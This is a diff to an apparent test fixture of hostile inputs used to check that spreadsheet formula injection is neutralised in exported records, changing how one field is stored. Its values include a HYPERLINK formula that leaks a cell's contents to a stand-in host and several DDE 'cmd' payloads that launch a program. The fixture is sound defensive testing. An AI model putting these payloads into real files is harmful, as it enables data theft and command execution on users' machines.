@@ -70,7 +70,7 @@ const hostileLines = [
   // 2: formulas in every kind of cell.
   toJsonl([
     fact('=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"TiO2")', 1.1, {
-      conditions: '\t=cmd|"/C calc"!A0',
+      conditions: [{ kind: 'other', value: '\t=cmd|"/C calc"!A0' }],
       evidence: { quote: { type: 'TextQuoteSelector', exact: '-2+3+cmd|"/C calc"!A0', prefix: '', suffix: '' } },
       votes: ['-2+3', 'gd'],
       models: ['@SUM(1+1)*cmd|"/C calc"!A0'],
